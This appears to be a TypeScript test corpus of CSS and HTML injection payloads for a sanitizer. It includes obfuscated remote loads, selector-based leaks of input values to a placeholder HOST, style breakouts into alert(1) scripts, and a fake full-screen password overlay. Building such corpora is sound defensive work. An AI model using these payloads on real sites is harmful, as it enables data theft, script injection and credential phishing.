import { dataSvg, each, payloads, type Payload } from './payload.ts';

const PROPERTIES = [
  'background',
  'background-image',
  'border-image',
  'border-image-source',
  'list-style',
  'list-style-image',
  'cursor',
  'content',
  'mask',
  'mask-image',
  '-webkit-mask-image',
  '-webkit-mask-box-image',
  'shape-outside',
  'clip-path',
  'filter',
  'backdrop-filter',
  'offset-path',
  '-webkit-box-reflect:below 0',
  'marker-start',
  'fill',
  'stroke',
  'src',
  'quotes',
  '--own',
];
const rule = (css: string): string => `<style>${css}</style><p class=a data-u="https://HOST/at.png">x</p>`;

/** Style sheets that load, tell, or break out. */
export const STYLES: readonly Payload[] = [
  ...each(
    'css property',
    PROPERTIES,
    (property) =>
      `<style>p,p::before,li{display:list-item;content:"x";float:left;${property.includes(':') ? property : `${property}:`} url(https://HOST/p.png)}</style><p>x`,
  ),
  ...each(
    'css in an attribute',
    ['background', 'list-style-image', 'mask', 'cursor', 'border-image'],
    (property) => `<p style="display:list-item;${property}:url('https://HOST/sa.png')">x`,
  ),
  ...payloads('css', {
    import: '<style>@import url(https://HOST/a.css);@import "https://HOST/b.css" screen;</style>',
    'import, escaped': '<style>@\\69mport "https://HOST/c.css";</style>',
    'import, parted by a comment': '<style>@im/**/port "https://HOST/c.css"; @import/**/"https://HOST/d.css";</style>',
    'import in media': '<style>@media all{@import "https://HOST/m.css";}</style>',
    'import with layer and supports':
      '<style>@import url(https://HOST/l.css) layer(x) supports(display:grid) screen;</style>',
    'import in an imported data sheet': '<style>@import "data:text/css,@import%20%22https://HOST/n.css%22;";</style>',
    'import after charset': '<style>@charset "utf-8";@import "https://HOST/ch.css";</style>',
    'link to a data sheet': '<link rel=stylesheet href="data:text/css,body{background:url(https://HOST/ds.png)}">',
    'url, escaped': rule('body{background:\\75\\72\\6c(https://HOST/e.png);list-style:u\\rl("https://HOST/f.png")}'),
    'url, parted by a comment': rule(
      'p{background:ur/**/l(https://HOST/g.png);background:u/**/rl("https://HOST/h.png")}',
    ),
    'url, after an unclosed string': rule('p{content:"\n;background:url(https://HOST/us.png)}'),
    'url, unclosed': '<style>body{background:url("https://HOST/u.png</style>x',
    'url, unquoted and unclosed': '<style>body{background:url(https://HOST/uu.png</style>x',
    'url with a line break': rule('p{background:url("https://HO\\\nST/lb.png")}'),
    'url without scheme': rule('p{background:url(//HOST/ws.png)}'),
    'url with backslashes': rule('p{background:url("\\\\\\\\HOST\\\\unc.png")}'),
    'image-set': rule('p{background:image-set("https://HOST/1.png" 1x)}'),
    'image-set of old': rule('p{background:-webkit-image-set(url(https://HOST/2.png) 1x)}'),
    'image-set with a type': rule('p{background:image-set("https://HOST/t.png" type("image/png") 1x)}'),
    'image-set of a variable': rule(':root{--u:"https://HOST/v.png"}p{background:image-set(var(--u) 1x)}'),
    'image-set of an attribute': rule('p{background:image-set(attr(data-u) 1x)}'),
    'attr as url': rule('p{background:attr(data-u type(<url>))}'),
    'src()': rule('p{background:src("https://HOST/src.png")}'),
    'image()': rule('p{background:image("https://HOST/im.png")}'),
    'cross-fade': rule(
      'p{background:-webkit-cross-fade(url(https://HOST/1),url(https://HOST/2),50%);background:cross-fade(url(https://HOST/3) 50%,"https://HOST/4")}',
    ),
    'an unknown function': rule('p{background:fetch-image("https://HOST/x.png")}'),
    'a variable': rule(':root{--u:url(https://HOST/var.png)}p{background:var(--u)}'),
    'a variable’s fallback': rule('p{background:var(--none,url(https://HOST/fb.png))}'),
    'a registered property': rule(
      '@property --p{syntax:"<url>";inherits:false;initial-value:url(https://HOST/prop.png)}p{background:var(--p)}',
    ),
    'a function': rule('@function --f(){result:url(https://HOST/fn.png)}p{background:--f()}'),
    'if()': rule(':root{--a:1;--u:url(https://HOST/if.png)}p{background:if(style(--a:1): var(--u); else: none)}'),
    'a paint worklet': rule('p{background:paint(x)}'),
    'a font': rule('@font-face{font-family:z;src:url(https://HOST/f.woff2)}p{font-family:z}'),
    'a font that tells letters': rule(
      '@font-face{font-family:z;src:url(https://HOST/x);unicode-range:U+78}p{font-family:z}',
    ),
    'a font of this machine first': rule(
      '@font-face{font-family:z;src:local("nope"),url(https://HOST/lf.woff2)}p{font-family:z}',
    ),
    'a secret told by attribute': '<input value=secret><style>input[value^=s]{background:url(https://HOST/s)}</style>',
    'a secret told by :has':
      '<style>body:has(input[value^=s]){background:url(https://HOST/has)}</style><input value=secret>',
    'a container query': rule(
      'html{container-type:inline-size}@container (width>1px){p{background:url(https://HOST/cq.png)}}',
    ),
    keyframes: rule('@keyframes k{from{background:url(https://HOST/kf.png)}}p{animation:k 9s}'),
    'a namespace and a document rule': rule('@namespace "https://HOST/n";@document url(https://HOST/d){a{b:c}}'),
    'a counter style': rule('@counter-style c{system:cyclic;symbols:url(https://HOST/cs.png)}li{list-style:c}'),
    'a page rule': rule('@page{background:url(https://HOST/pg.png)}'),
    'behaviour and binding': rule('p{behavior:url(https://HOST/b.htc);-moz-binding:url(https://HOST/b.xml#x)}'),
    expression: rule('p{width:expression(alert(1));width:e\\xpression(alert(1))}'),
    'a filter of old': rule("p{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='https://HOST/al.png')}"),
    'a javascript address': rule('p{background:url(javascript:alert(1));list-style-image:url("javascript:alert(1)")}'),
    'breaks out of its element': '<style>a{content:"</style><img src=https://HOST/w.png onerror=alert(1)>"}</style>',
    'breaks out, escaped': '<style>a{content:"<\\/style><img src=x onerror=alert(1)>"}</style>',
    'breaks out by a comment': '<style>/*</style><img src=https://HOST/q.png>*/</style>',
    'breaks out by a CDO': '<style><!--</style><img src=https://HOST/cdo.png>--></style>',
    'breaks out of an attribute': '<p style="a:b;}</style><img src=https://HOST/k.png>">x',
    'breaks out of a wrapper':
      '<div><template shadowrootmode=open><style>}}}*{background:url(https://HOST/wr.png)}</style></template></div>',
    'a backslash at the end': '<style>p{color:red}\\</style><style>body{background:url(https://HOST/be.png)}</style>x',
    'a host’s background':
      '<div><template shadowrootmode=open><style>:host{background:url(https://HOST/host.png)}</style><slot></slot></template>light</div>',
    'a picture with a script in it': `<style>body{background:url("${dataSvg('onload="alert(1)"><script>alert(1)</script><image href="https://HOST/in.png"/>')}")}</style>x`,
    'a view transition': '<style>@view-transition{navigation:auto}</style>x',
    'print only':
      '<link rel=stylesheet media=print href=https://HOST/pr.css><style media=print>body{background:url(https://HOST/pm.png)}</style>',
    'covers everything':
      '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Enter your password <input type=password></div>',
    'a pointer of its own': rule('*{cursor:url(https://HOST/c.cur),none!important}'),
  }),
];
